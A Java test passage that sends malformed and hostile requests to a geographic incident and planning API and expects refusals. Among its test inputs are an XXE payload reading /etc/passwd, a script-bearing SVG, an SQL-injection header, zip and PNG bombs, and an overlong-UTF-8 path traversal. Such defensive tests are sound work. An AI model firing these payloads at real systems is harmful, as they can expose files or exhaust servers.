		add(refused(fam, "zip without a shapefile", post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=shapefile",
				"application/zip", zip(Map.of("readme.txt", utf8("hello")))), 400));
		add(refused(fam, "unknown file without format",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326", "application/octet-stream", utf8("hello, world")),
				400));
		add(refused(fam, "XML with an external entity to a JSON endpoint",
				post("/api/v1/lookup", "application/xml",
						"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
				415));
		add(refused(fam, "XML to the incident endpoint", post("/api/v1/incidents", "text/xml", "<report/>"), 415));
		add(refused(fam, "text/plain to a JSON endpoint", post("/api/v1/stations", "text/plain", "{}"), 415));
		add(refused(fam, "form to the batch lookup",
				post("/api/v1/lookup", MediaType.APPLICATION_FORM_URLENCODED_VALUE, "points=1"), 415));
		add(refused(fam, "JSON to the CSV import", post("/api/v1/incidents/imports", "application/json", "{}"), 415));
		add(refused(fam, "no Content-Type on the incident endpoint", post("/api/v1/incidents", null, validReport()),
				415));
		add(refused(fam, "no Content-Type on plan changes",
				new HostileRequest("POST", changes(), null, utf8("{}"), null, Map.of("If-Match", this.f.planEtag())),
				400, 415));
		add(refused(fam, "garbage Content-Type", post("/api/v1/lookup", "garbage", "{}"), 400, 415));
		add(refused(fam, "Content-Type with an unknown charset",
				post("/api/v1/lookup", "application/json;charset=x-no-such-charset", "{\"points\":[]}"), 400, 415));
		add(refused(fam, "Content-Type with an EBCDIC charset",
				post("/api/v1/incidents", "application/json;charset=IBM037", validReport()), 400, 415));
		add(refused(fam, "multipart without a boundary", post("/api/v1/incidents", "multipart/form-data", "--x--"), 400,
				415));
		add(refused(fam, "multipart with a broken body",
				post("/api/v1/incidents", "multipart/form-data; boundary=abc", "--abc\r\nnonsense"), 400));
		add(refused(fam, "multipart report part that is not JSON",
				HostileRequest.multipart("/api/v1/incidents", reportWithPhoto("<report/>", null, null, null)), 400));
		add(refused(fam, "multipart without a report part",
				HostileRequest.multipart("/api/v1/incidents", filePart("x.jpg", utf8("x"), "image/jpeg")), 400));
		add(refused(fam, "PNG that is really text",
				HostileRequest.multipart("/api/v1/incidents",
						reportWithPhoto(validReport(), "photo.png", concat(PNG_MAGIC, utf8("just text")), "image/png")),
				400));
		add(refused(fam, "JPEG header followed by garbage",
				HostileRequest.multipart("/api/v1/incidents", reportWithPhoto(validReport(), "photo.jpg",
						concat(new byte[] { (byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0 }, new byte[2000]),
						"image/jpeg")),
				400));
		add(refused(fam, "SVG with a script as a photo",
				HostileRequest.multipart("/api/v1/incidents",
						reportWithPhoto(validReport(), "photo.svg",
								utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
								"image/svg+xml")),
				400));
		add(refused(fam, "GIF as a photo", HostileRequest.multipart("/api/v1/incidents",
				reportWithPhoto(validReport(), "photo.gif", utf8("GIF89a\u0001\u0000\u0001\u0000"), "image/gif")),
				400));
		add(refused(fam, "PNG claiming 100000 x 100000 pixels",
				HostileRequest.multipart("/api/v1/incidents",
						reportWithPhoto(validReport(), "bomb.png", pngHeader(100_000, 100_000), "image/png")),
				400, 413));
		add(refused(fam, "JSON sent as the photo", HostileRequest.multipart("/api/v1/incidents",
				reportWithPhoto(validReport(), "photo.jpg", utf8(validReport()), "application/json")), 400));
		add(refused(fam, "CSV that is binary",
				post("/api/v1/incidents/imports", "text/csv", concat(PNG_MAGIC, new byte[500])), 400, 422));
		add(refused(fam, "Open311 form sent as JSON",
				post("/open311/v2/requests.json", "application/json", "api_key=demo-open311-key&lat=1"), 400));
		add(refused(fam, "Accept: application/x-ndjson on a bad CSV",
				post("/api/v1/incidents/imports", "text/csv", "nonsense\n").header("Accept", "application/x-ndjson"),
				400, 422));
	}

	/** A PNG signature and IHDR chunk that claim the given size, and nothing after. */
	static byte[] pngHeader(int width, int height) {
		java.nio.ByteBuffer ihdr = java.nio.ByteBuffer.allocate(25);
		ihdr.putInt(13).put(utf8("IHDR")).putInt(width).putInt(height).put((byte) 8).put((byte) 2);
		ihdr.put((byte) 0).put((byte) 0).put((byte) 0);
		java.util.zip.CRC32 crc = new java.util.zip.CRC32();
		crc.update(ihdr.array(), 4, 17);
		ihdr.putInt((int) crc.getValue());
		return concat(PNG_MAGIC, ihdr.array());
	}

	private void oversized() {
		String fam = OVERSIZED;
		add(refused(fam, "million-vertex polygon in a plan change",
				reshape(MalformedGeoJson.polygon(MalformedGeoJson.millionVertexRings())), 413));
		add(refused(fam, "20,001-vertex polygon in a plan change",
				reshape(MalformedGeoJson.polygon(MalformedGeoJson.circleRings(20_001))), 400));
		add(refused(fam, "20,001-vertex grid in a file", preview(
				MalformedGeoJson.featureCollection(MalformedGeoJson.polygon(MalformedGeoJson.circleRings(20_001)))),
				413));
		add(refused(fam, "5,001 features in a file", preview(features(5_001)), 413));
		add(refused(fam, "plan change nested 200 deep", reshape(MalformedGeoJson.polygon(MalformedGeoJson.nested(200))),
				400));
		add(refused(fam, "preview nested 100,000 deep", preview(MalformedGeoJson.nested(100_000)), 400));
		add(refused(fam, "batch lookup nested 5,000 deep",
				json("POST", "/api/v1/lookup", "{\"points\":" + MalformedGeoJson.nested(5_000) + "}"), 400));
		add(refused(fam, "incident report nested 5,000 deep",
				json("POST", "/api/v1/incidents", "{\"reporter\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001)),
				400));
		add(refused(fam, "station nested 5,000 deep",
				json("POST", "/api/v1/stations", "{\"services\":" + MalformedGeoJson.nested(5_000) + "}"), 400));
		add(refused(fam, "siting nested 5,000 deep",
				json("POST", "/api/v1/coverage/siting", "{\"candidates\":" + MalformedGeoJson.nested(5_000) + "}"),
				400));
		add(refused(fam, "network import nested 5,000 deep",
				json("POST", "/api/v1/network/import", "{\"features\":" + MalformedGeoJson.nested(5_000) + "}"), 400));
		add(refused(fam, "proposal nested 5,000 deep",
				json("POST", "/api/v1/proposals", "{\"community\":" + MalformedGeoJson.nested(5_000) + "}"), 400));
		add(refused(fam, "Open311 JSON nested 5,000 deep",
				json("POST", "/open311/v2/requests.json", "{\"api_key\":" + MalformedGeoJson.nested(5_000) + "}"),
				400));
		String big = "x".repeat(5 * 1024 * 1024);
		add(refused(fam, "5 MB batch lookup body", json("POST", "/api/v1/lookup", "{\"pad\":\"" + big + "\"}"), 413));
		add(refused(fam, "5 MB incident body", json("POST", "/api/v1/incidents", "{\"description\":\"" + big + "\"}"),
				413));
		add(refused(fam, "5 MB station body", json("POST", "/api/v1/stations", "{\"name\":\"" + big + "\"}"), 413));
		add(refused(fam, "5 MB plan change body", planChange("{\"author\":\"" + big + "\"}"), 413));
		add(refused(fam, "5 MB network import body",
				json("POST", "/api/v1/network/import", "{\"type\":\"" + big + "\"}"), 413));
		add(refused(fam, "5 MB siting body", json("POST", "/api/v1/coverage/siting", "{\"pad\":\"" + big + "\"}"),
				413));
		add(refused(fam, "5 MB proposal body", json("POST", "/api/v1/proposals", "{\"community\":\"" + big + "\"}"),
				413));
		add(refused(fam, "5 MB Open311 form", post("/open311/v2/requests.json",
				MediaType.APPLICATION_FORM_URLENCODED_VALUE, "api_key=demo-open311-key&description=" + big), 413));
		add(refused(fam, "5 MB plan create body", json("POST", "/api/v1/plans", "{\"name\":\"" + big + "\"}"), 413));
		add(refused(fam, "10,001 points in a batch lookup", json("POST", "/api/v1/lookup", batch(10_001)), 400, 413));
		add(refused(fam, "5,001-character description",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), q("长".repeat(4_001)), "130.80", "45.35")),
				400));
		add(refused(
				fam, "100,000-character reporter name", json("POST", "/api/v1/incidents", validReport()
					.replace("\"channel\"", "\"reporter\":{\"name\":" + q("名".repeat(100_000)) + "},\"channel\"")),
				400, 413));
		add(refused(fam, "100,000-character address",
				json("POST", "/api/v1/incidents",
						validReport().replace("\"channel\"", "\"address\":" + q("路".repeat(100_000)) + ",\"channel\"")),
				400, 413));
		add(refused(fam, "100,000-character station name",
				json("POST", "/api/v1/stations", "{\"code\":\"HX02\",\"name\":" + q("站".repeat(100_000))
						+ ",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35}"),
				400, 413));
		add(refused(fam, "100,000-character plan name",
				json("POST", "/api/v1/plans", "{\"name\":" + q("名".repeat(100_000)) + ",\"parent\":\""
						+ this.f.community() + "\",\"effectiveDate\":\"2030-01-01\"," + "\"author\":\"王\"}"),
				400));
		// The author is the signed-in planner since sign-in; the grid code is read.
		add(refused(fam, "100,000-character grid code in a plan change",
				planChange("{\"kind\":\"delete\",\"grid\":" + q("王".repeat(100_000)) + "}"), 400, 404, 422));
		add(refused(fam, "100,000-character action note",
				json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
						"{\"action\":\"register\",\"actor\":\"x\",\"role\":\"dispatcher\",\"note\":"
								+ q("注".repeat(100_000)) + "}"),
				400, 409, 413));
		add(refused(fam, "100,000-character Open311 description",
				post("/open311/v2/requests.json", MediaType.APPLICATION_FORM_URLENCODED_VALUE,
						"api_key=demo-open311-key&service_code=" + this.f.matter()
								+ "&lat=45.35&long=130.8&description=" + "x".repeat(100_000)),
				400));
		add(refused(fam, "3,000-character CSV import actor",
				post("/api/v1/incidents/imports?actor=" + "a".repeat(3_000), "text/csv", validCsv()), 400));
		add(refused(fam, "zip of 40 entries", HostileRequest.multipart("/api/v1/grids/imports/preview",
				filePart("many.zip", zip(manyEntries(40)), "application/zip")), 413));
		add(refused(fam, "zip bomb (70 MB unpacked)", HostileRequest.multipart("/api/v1/grids/imports/preview",
				filePart("bomb.zip", zipBomb(), "application/zip")), 400, 413));
		add(refused(fam, "six photos", HostileRequest.multipart("/api/v1/incidents", sixPhotos()), 400, 413));
		add(refused(fam, "photo over 5 MB",
				HostileRequest.multipart("/api/v1/incidents",
						reportWithPhoto(validReport(), "big.jpg", new byte[5 * 1024 * 1024 + 10], "image/jpeg")),
				400, 413));
		add(refused(fam, "OGC items limit past the largest long",
				get("/ogc/collections/grids/items?limit=99999999999999999999999"), 400));
		// Page sizes past the maximum are lowered to it (the OGC rule), not refused.
		add(accepted(fam, "incident list limit past an int, lowered to the maximum",
				get("/api/v1/incidents?limit=99999999999"),
				(body) -> body.startsWith("{\"type\":\"FeatureCollection\"")));
		add(accepted(fam, "Open311 requests over a 100-year window, at most 1,000 answered",
				get("/open311/v2/requests.json?start_date=1920-01-01T00:00:00Z&end_date=2026-01-01T00:00:00Z"),
				(body) -> body.startsWith("[") && body.split("\"service_request_id\"").length <= 1_001));
		add(refused(fam, "stations limit 1e9", get("/api/v1/stations?limit=1000000000"), 400));
		add(refused(fam, "uncovered limit 1e9", get("/api/v1/coverage/uncovered?limit=1000000000"), 400));
		add(refused(fam, "addresses limit 1e9", get("/api/v1/addresses?q=%E5%B9%B8&limit=1000000000"), 400));
		add(refused(fam, "plan impact addressLimit 1e9",
				get("/api/v1/plans/" + this.f.plan() + "/impact?addressLimit=1000000000"), 400));
		add(refused(fam, "hotspots cellMetres 1", get("/api/v1/hotspots?bbox=130.7,45.3,130.9,45.4&cellMetres=1"),
				400));
		add(refused(fam, "hotspots over the whole world", get("/api/v1/hotspots?bbox=-180,-90,180,90&cellMetres=50"),
				400));
		add(refused(fam, "stats over 100 years", get("/api/v1/stats/grids?from=1920-01-01&to=2026-01-01"), 400));
		add(refused(fam, "tile z 99", get("/tiles/grids/99/0/0.mvt"), 400, 404));
		add(refused(fam, "tile z -1", get("/tiles/grids/-1/0/0.mvt"), 400, 404));
		add(refused(fam, "tile x past 2^z", get("/tiles/grids/3/8/0.mvt"), 400, 404));
		add(refused(fam, "tile y negative", get("/tiles/incidents/3/1/-1.mvt"), 400, 404));
		add(refused(fam, "tile z 1e400", get("/tiles/grids/1e400/0/0.mvt"), 400, 404));
		add(refused(fam, "hotspot tile z 40", get("/tiles/hotspots/40/0/0.mvt"), 400, 404));
		add(refused(fam, "circle of 100,000 minutes",
				get("/api/v1/stations/" + this.f.station() + "/circle?minutes=100000"), 400));
		add(refused(fam, "circle of 0 minutes", get("/api/v1/stations/" + this.f.station() + "/circle?minutes=0"),
				400));
		add(refused(fam, "coverage of -5 minutes", get("/api/v1/coverage?minutes=-5"), 400));
		add(refused(fam, "siting k 1e9", json("POST", "/api/v1/coverage/siting", "{\"k\":1000000000}"), 400));
		add(refused(fam, "proposal of 1e9 households", json("POST", "/api/v1/proposals",
				"{\"community\":\"" + this.f.community() + "\",\"targetHouseholds\":1000000000}"), 400));
		add(refused(fam, "undo of change 999999999",
				json("POST", "/api/v1/plans/" + this.f.plan() + "/changes/999999999/undo", "{\"author\":\"王\"}")
					.header("If-Match", this.f.planEtag()),
				404, 409, 400, 422));
		add(refused(fam, "plan id past 18 digits", get("/api/v1/plans/9999999999999999999"), 404));
		add(refused(fam, "incident id past a long", get("/api/v1/incidents/99999999999999999999999"), 400, 404));
	}

	private static String features(int n) {
		StringBuilder out = new StringBuilder("{\"type\":\"FeatureCollection\",\"features\":[");
		String square = MalformedGeoJson.polygon(String.format(MalformedGeoJson.SQUARE, "[130.82,45.341]"));
		for (int i = 0; i < n; i++) {
			out.append((i > 0) ? "," : "")
				.append("{\"type\":\"Feature\",\"properties\":{},\"geometry\":")
				.append(square)
				.append('}');
		}
		return out.append("]}").toString();
	}

	private static String batch(int n) {
		StringBuilder out = new StringBuilder("{\"points\":[");
		for (int i = 0; i < n; i++) {
			out.append((i > 0) ? "," : "").append("{\"id\":\"").append(i).append("\",\"lon\":130.8,\"lat\":45.35}");
		}
		return out.append("]}").toString();
	}

	private static Map<String, byte[]> manyEntries(int n) {
		Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
		for (int i = 0; i < n; i++) {
			entries.put("file" + i + ".txt", new byte[] { 1 });
		}
		return entries;
	}

	private MultiValueMap<String, HttpEntity<?>> sixPhotos() {
		MultipartBodyBuilder parts = new MultipartBodyBuilder();
		parts.part("report", validReport()).contentType(MediaType.APPLICATION_JSON);
		for (int i = 0; i < 6; i++) {
			parts.part("photo", new ByteArrayResource(utf8("not a photo " + i)))
				.filename("p" + i + ".jpg")
				.contentType(MediaType.IMAGE_JPEG);
		}
		return parts.build();
	}

	private void wrongTypes() {
		String fam = WRONG_TYPES;
		add(refused(fam, "batch lookup lon as string",
				json("POST", "/api/v1/lookup", "{\"points\":[{\"id\":\"a\",\"lon\":\"east\",\"lat\":45.35}]}"), 400));
		add(refused(fam, "batch lookup points as object", json("POST", "/api/v1/lookup", "{\"points\":{\"a\":1}}"),
				400));
		add(refused(fam, "batch lookup as array", json("POST", "/api/v1/lookup", "[1,2,3]"), 400));
		add(refused(fam, "batch lookup id as object",
				json("POST", "/api/v1/lookup", "{\"points\":[{\"id\":{\"x\":1},\"lon\":130.8,\"lat\":45.35}]}"), 400));
		add(refused(fam, "batch lookup asOf as number", json("POST", "/api/v1/lookup",
				"{\"asOf\":20240101,\"points\":[{\"id\":\"a\",\"lon\":130.8,\"lat\":45.35}]}"), 400));
		add(refused(fam, "batch lookup null body", json("POST", "/api/v1/lookup", "null"), 400));
		add(refused(fam, "batch lookup empty body", json("POST", "/api/v1/lookup", ""), 400));
		add(refused(fam, "lookup lon 1e400", get("/api/v1/lookup?lon=1e400&lat=45.35"), 400));
		add(refused(fam, "lookup lon NaN", get("/api/v1/lookup?lon=NaN&lat=45.35"), 400));
		add(refused(fam, "lookup lon Infinity", get("/api/v1/lookup?lon=Infinity&lat=45.35"), 400));
		add(refused(fam, "lookup lon hexadecimal", get("/api/v1/lookup?lon=0x82&lat=45.35"), 400));
		add(refused(fam, "lookup lat 95", get("/api/v1/lookup?lon=130.8&lat=95"), 400));
		add(refused(fam, "lookup lon and lat swapped", get("/api/v1/lookup?lon=45.35&lat=130.8"), 400));
		add(refused(fam, "lookup lon given twice", get("/api/v1/lookup?lon=130.8&lon=1&lat=45.35"), 400));
		add(refused(fam, "lookup asOf year 99999", get("/api/v1/lookup?lon=130.8&lat=45.35&asOf=99999-01-01"), 400));
		add(refused(fam, "lookup asOf month 13", get("/api/v1/lookup?lon=130.8&lat=45.35&asOf=2024-13-01"), 400));
		add(refused(fam, "incident lon as string",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), q("x"), "\"east\"", "45.35")), 400));
		add(refused(fam, "incident lat 1e400",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), q("x"), "130.8", "1e400")), 400));
		add(refused(fam, "incident lon as array",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), q("x"), "[130.8]", "45.35")), 400));
		add(refused(fam, "incident description as object",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), "{\"a\":1}", "130.8", "45.35")), 400));
		add(refused(fam, "incident reporter as string", json("POST", "/api/v1/incidents",
				validReport().replace("\"channel\"", "\"reporter\":\"me\",\"channel\""))));
		add(refused(fam, "incident body as array", json("POST", "/api/v1/incidents", "[]"), 400));
		add(refused(fam, "incident report without a location",
				json("POST", "/api/v1/incidents", "{\"matter\":\"" + this.f.matter() + "\",\"description\":\"x\"}"),
				400));
		add(refused(fam, "action rating 1e400", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":\"rate\",\"actor\":\"x\",\"role\":\"resident\",\"rating\":1e400}"), 400));
		add(refused(fam, "action rating as string", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":\"rate\",\"actor\":\"x\",\"role\":\"resident\",\"rating\":\"five\"}"), 400));
		add(refused(fam, "action rating 6", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":\"rate\",\"actor\":\"x\",\"role\":\"resident\",\"rating\":6}"), 400, 409));
		add(refused(fam, "action duplicateOf as text",
				json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
						"{\"action\":\"reject\",\"actor\":\"x\",\"role\":\"dispatcher\",\"reason\":\"duplicate\","
								+ "\"duplicateOf\":\"abc\"}"),
				400));
		add(refused(fam, "siting k as string", json("POST", "/api/v1/coverage/siting", "{\"k\":\"two\"}"), 400));
		add(refused(fam, "siting k -1", json("POST", "/api/v1/coverage/siting", "{\"k\":-1}"), 400));
		add(refused(fam, "siting candidates as string",
				json("POST", "/api/v1/coverage/siting", "{\"k\":1,\"candidates\":\"all\"}"), 400));
		add(refused(fam, "proposal targetHouseholds negative", json("POST", "/api/v1/proposals",
				"{\"community\":\"" + this.f.community() + "\",\"targetHouseholds\":-1}"), 400));
		add(refused(fam, "proposal min above max",
				json("POST", "/api/v1/proposals",
						"{\"community\":\"" + this.f.community() + "\",\"minHouseholds\":600,\"maxHouseholds\":100}"),
				400));
		add(refused(fam, "station lon as string", json("POST", "/api/v1/stations",
				"{\"code\":\"HX03\",\"name\":\"x\",\"type\":\"党群驿站\",\"lon\":\"east\",\"lat\":45.35}"), 400));
		add(refused(fam, "station services as number", json("POST", "/api/v1/stations",
				"{\"code\":\"HX04\",\"name\":\"x\",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35,\"services\":7}"),
				400));
		add(refused(fam, "station PATCH with an array body",
				json("PATCH", "/api/v1/stations/" + this.f.station(), "[1]").header("If-Match", this.f.stationEtag()),
				400, 415));
		add(refused(fam, "plan PATCH effectiveDate as number",
				json("PATCH", "/api/v1/plans/" + this.f.plan(), "{\"effectiveDate\":20300101,\"author\":\"王\"}")
					.header("If-Match", this.f.planEtag()),
				400));
		add(refused(fam, "plan change batch as string",
				planChange("{\"kind\":\"batch\",\"author\":\"李\"," + "\"changes\":\"all\"}"), 400));
		add(refused(fam, "plan attributes households 1e400", planChange("{\"kind\":\"attributes\",\"author\":\"李\","
				+ "\"grid\":\"" + this.f.grid() + "\",\"set\":{\"households\":1e400}}"), 400));
		add(refused(fam, "plan attributes households 2^63", planChange("{\"kind\":\"attributes\",\"author\":\"李\","
				+ "\"grid\":\"" + this.f.grid() + "\",\"set\":{\"households\":9223372036854775808}}"), 400));
		add(refused(fam, "plan publish body as string",
				json("POST", "/api/v1/plans/" + this.f.plan() + "/publish", "\"now\"").header("If-Match",
						this.f.planEtag()),
				400));
		add(refused(fam, "plan proposal targetHouseholds as string",
				json("POST", "/api/v1/plans/" + this.f.plan() + "/proposal",
						"{\"community\":\"" + this.f.community() + "\",\"author\":\"王\",\"targetHouseholds\":\"many\"}")
					.header("If-Match", this.f.planEtag()),
				400));
		add(refused(fam, "Open311 JSON lat as array",
				json("POST", "/open311/v2/requests.json", "{\"api_key\":\"demo-open311-key\",\"service_code\":\""
						+ this.f.matter() + "\",\"lat\":[1],\"long\":130.8}"),
				400));
		add(refused(fam, "Open311 JSON body as array", json("POST", "/open311/v2/requests.json", "[]"), 400));
		add(refused(fam, "Open311 lat NaN",
				post("/open311/v2/requests.json", MediaType.APPLICATION_FORM_URLENCODED_VALUE,
						"api_key=demo-open311-key&service_code=" + this.f.matter() + "&lat=NaN&long=130.8"),
				400));
		add(refused(fam, "CSV import lon 1e400",
				post("/api/v1/incidents/imports", "text/csv", "matter,description,lon,lat,reported_at\n"
						+ this.f.matter() + ",x,1e400,45.35,2024-01-01T00:00:00+08:00\n"),
				400, 422));
		add(refused(fam, "CSV import with an unclosed quote",
				post("/api/v1/incidents/imports", "text/csv",
						"matter,description,lon,lat,reported_at\n" + this.f.matter() + ",\"x,130.8,45.35,2024-01-01\n"),
				400, 422));
		add(refused(fam, "CSV import without the header", post("/api/v1/incidents/imports", "text/csv",
				this.f.matter() + ",x,130.8,45.35,2024-01-01T00:00:00+08:00\n"), 400, 422));
		add(refused(fam, "CSV import with an empty body", post("/api/v1/incidents/imports", "text/csv", ""), 400, 422));
		add(refused(fam, "network import replace=maybe", json("POST", "/api/v1/network/import?replace=maybe",
				"{\"type\":\"FeatureCollection\",\"features\":[]}"), 400));
	}

	private void encoding() {
		String fam = ENCODING;
		byte[] invalid = { (byte) 0xC3, (byte) 0x28 };
		add(refused(fam, "invalid UTF-8 in an incident body",
				post("/api/v1/incidents", "application/json",
						concat(concat(utf8("{\"matter\":\"" + this.f.matter() + "\",\"description\":\""), invalid),
								utf8("\",\"lon\":130.8,\"lat\":45.35}"))),
				400));
		add(refused(fam, "invalid UTF-8 in a plan change",
				new HostileRequest("POST", changes(), "application/json",
						concat(utf8("{\"kind\":\"delete\",\"author\":\""),
								concat(invalid, utf8("\",\"grid\":\"" + this.f.grid() + "\"}"))),
						null, Map.of("If-Match", this.f.planEtag())),
				400));
		add(refused(fam, "invalid UTF-8 in a batch lookup", post("/api/v1/lookup", "application/json",
				concat(utf8("{\"points\":[{\"id\":\""), concat(invalid, utf8("\",\"lon\":130.8,\"lat\":45.35}]}")))),
				400));
		add(refused(fam, "invalid UTF-8 in a grid file",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=geojson", GEOJSON,
						concat(utf8("{\"type\":\"FeatureCollection\",\"name\":\""),
								concat(invalid, utf8("\",\"features\":[]}")))),
				400));
		add(refused(fam, "invalid UTF-8 in a CSV import",
				post("/api/v1/incidents/imports", "text/csv", concat(utf8(validCsv().replace(",x,", ",")), invalid)),
				400, 422));
		add(refused(fam, "invalid UTF-8 in a station",
				post("/api/v1/stations", "application/json",
						concat(utf8("{\"code\":\"HX05\",\"name\":\""),
								concat(invalid, utf8("\",\"type\":\"党群驿站\"," + "\"lon\":130.8,\"lat\":45.35}")))),
				400));
		add(refused(fam, "NUL in an incident description (JSON escape)",
				json("POST", "/api/v1/incidents", report(q(this.f.matter()), "\"井盖\\u0000冒水\"", "130.80", "45.35")),
				400));
		add(refused(fam, "NUL in a reporter name",
				json("POST", "/api/v1/incidents",
						validReport().replace("\"channel\"", "\"reporter\":{\"name\":\"李\\u0000\"},\"channel\"")),
				400));
		add(refused(fam, "NUL in a station name",
				json("POST", "/api/v1/stations",
						"{\"code\":\"HX06\",\"name\":\"站\\u0000\",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35}"),
				400));
		add(refused(fam, "NUL in a plan name", json("POST", "/api/v1/plans", "{\"name\":\"方案\\u0000\",\"parent\":\""
				+ this.f.community() + "\",\"effectiveDate\":\"2030-01-01\",\"author\":\"王\"}"), 400));
		add(refused(fam, "NUL in a plan change grid code",
				planChange("{\"kind\":\"delete\",\"grid\":\"" + this.f.grid() + "\\u0000\"}"), 400, 404, 422));
		add(refused(fam, "NUL in an Open311 description", post("/open311/v2/requests.json",
				MediaType.APPLICATION_FORM_URLENCODED_VALUE,
				"api_key=demo-open311-key&service_code=" + this.f.matter() + "&lat=45.35&long=130.8&description=a%00b"),
				400));
		add(refused(fam, "NUL in a CSV import description",
				post("/api/v1/incidents/imports", "text/csv", validCsv().replace(",x,", ",a\u0000b,")), 400, 422));
		add(refused(fam, "NUL in an action note", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":\"register\",\"actor\":\"x\\u0000\",\"role\":\"dispatcher\",\"note\":\"a\\u0000\"}"), 400,
				409));
		add(refused(fam, "lone surrogate in a station name",
				json("POST", "/api/v1/stations",
						"{\"code\":\"HX07\",\"name\":\"\\ud800\",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35}"),
				400));
		add(refused(fam, "NUL in the lookup crs", get("/api/v1/lookup?lon=130.8&lat=45.35&crs=EPSG:4326%00"), 400));
		add(refused(fam, "invalid UTF-8 in the lookup asOf", get("/api/v1/lookup?lon=130.8&lat=45.35&asOf=%C3%28"),
				400));
		add(refused(fam, "overlong UTF-8 slash in a grid code", get("/api/v1/grids/%C0%AFetc%C0%AFpasswd"), 400, 404));
		add(refused(fam, "NUL in an OGC datetime", get("/ogc/collections/grids/items?datetime=2024-01-01%00"), 400));
		add(refused(fam, "NUL in a tile layer", get("/tiles/grids%00/1/1/1.mvt"), 400, 404));
		add(refused(fam, "control characters in a plan status filter", get("/api/v1/plans?status=%0D%0Adraft"), 400));
		add(refused(fam, "NUL in a CSV import actor",
				post("/api/v1/incidents/imports?actor=a%00b", "text/csv", validCsv()), 400));
	}

	private void headers() {
		String fam = HEADERS;
		String delete = "{\"kind\":\"delete\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\"}";
		add(refused(fam, "plan change without If-Match", json("POST", changes(), delete), 428));
		add(refused(fam, "plan change If-Match *", json("POST", changes(), delete).header("If-Match", "*"), 412, 428,
				400));
		add(refused(fam, "plan change If-Match garbage", json("POST", changes(), delete).header("If-Match", "garbage"),
				412, 400));
		add(refused(fam, "plan change If-Match weak", json("POST", changes(), delete).header("If-Match", "W/\"1\""),
				412, 400));
		add(refused(fam, "plan change If-Match SQL",
				json("POST", changes(), delete).header("If-Match", "\"1' OR 1=1--\""), 412, 400));
		add(refused(fam, "plan change 6 KB If-Match",
				json("POST", changes(), delete).header("If-Match", "\"" + "9".repeat(6000) + "\""), 412, 400));
		add(refused(fam, "plan publish stale If-Match",
				json("POST", "/api/v1/plans/" + this.f.plan() + "/publish", "{\"author\":\"王\"}").header("If-Match",
						"\"0\""),
				412));
		add(refused(fam, "plan discard If-Match list",
				json("POST", "/api/v1/plans/" + this.f.plan() + "/discard", "{\"author\":\"王\"}").header("If-Match",
						"\"0\", \"1\", garbage"),
				412, 400));
		add(refused(fam, "plan delete If-Match garbage",
				new HostileRequest("DELETE", "/api/v1/plans/" + this.f.plan() + "?author=" + enc(SQL.get(0)), null,
						null, null, Map.of("If-Match", "garbage")),
				412, 400));
		add(refused(fam, "plan import without If-Match", HostileRequest.multipart(
				"/api/v1/plans/" + this.f.plan() + "/imports", filePart("x.geojson", utf8("{}"), GEOJSON)), 428));
		add(refused(fam, "station PUT If-Match garbage",
				json("PUT", "/api/v1/stations/" + this.f.station(),
						"{\"name\":\"x\",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35}")
					.header("If-Match", "garbage"),
				412, 400));
		add(refused(fam, "station DELETE without If-Match",
				new HostileRequest("DELETE", "/api/v1/stations/" + this.f.station(), null, null, null, Map.of()), 428));
		add(refused(fam, "station PATCH stale If-Match",
				json("PATCH", "/api/v1/stations/" + this.f.station(), "{\"hours\":\"x\"}").header("If-Match",
						"\"stale\""),
				412, 415));
		add(refused(fam, "Idempotency-Key of 10,000 characters",
				json("POST", "/api/v1/incidents", validReport()).header("Idempotency-Key", "k".repeat(7000)), 400));
		add(refused(fam, "empty Idempotency-Key",
				json("POST", "/api/v1/incidents", validReport()).header("Idempotency-Key", ""), 400));

		add(refused(fam, "Open311 Idempotency-Key of 7,000 characters",
				post("/open311/v2/requests.json", MediaType.APPLICATION_FORM_URLENCODED_VALUE,
						"api_key=demo-open311-key&service_code=" + this.f.matter()
								+ "&lat=45.35&long=130.8&description=x")
					.header("Idempotency-Key", "k".repeat(7000)),
				400));
		add(refused(fam, "a 20 KB header",
				get("/api/v1/lookup?lon=130.8&lat=45.35").header("X-Padding", "p".repeat(20_000)), 431));
		add(refused(fam, "100 headers of 200 bytes", hundredHeaders(get("/api/v1/lookup?lon=130.8&lat=45.35")), 431));
		add(refused(fam, "a 100 KB header, past the transport limit",
				get("/api/v1/lookup?lon=130.8&lat=45.35").header("X-Padding", "p".repeat(100_000)), 431));
		add(refused(fam, "a 10 KB URL", get("/api/v1/lookup?lon=130.8&lat=45.35&x=" + "u".repeat(10_000)), 414));
		add(refused(fam, "a 100 KB URL, past the transport limit",
				get("/api/v1/lookup?lon=130.8&lat=45.35&x=" + "u".repeat(100_000)), 414));
		add(refused(fam, "Accept of a type nobody serves",
				get("/api/v1/lookup?lon=130.8&lat=45.35").header("Accept", "application/x-evil"), 406));
		add(refused(fam, "If-None-Match garbage on a missing grid",
				get("/api/v1/grids/999999999999999").header("If-None-Match", "\u00ff\u00fe"), 404, 400));
	}

	private static HostileRequest hundredHeaders(HostileRequest request) {
